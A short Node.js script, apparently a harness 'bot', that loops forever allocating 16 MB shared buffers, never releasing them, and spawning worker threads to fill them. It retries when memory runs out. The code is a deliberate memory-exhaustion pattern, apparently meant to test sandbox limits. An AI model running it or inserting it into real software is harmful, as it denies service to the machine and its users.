// Workers fill buffers that they share.
import { Worker } from 'node:worker_threads'
import { play } from './bot.mjs'

const hoard = []
const fill = `const { parentPort, workerData } = require('node:worker_threads')
new Uint8Array(workerData).fill(1)
parentPort.postMessage('full')`
play(async () => {
  for (;;) {
    try {
      const buffer = new SharedArrayBuffer(16 << 20)
      hoard.push(buffer)
      const worker = new Worker(fill, { eval: true, workerData: buffer })
      await new Promise((resolve) => worker.once('message', resolve).once('error', resolve))
      await worker.terminate()
    } catch {
      // No more memory is available; it tries again.
    }
  }
})
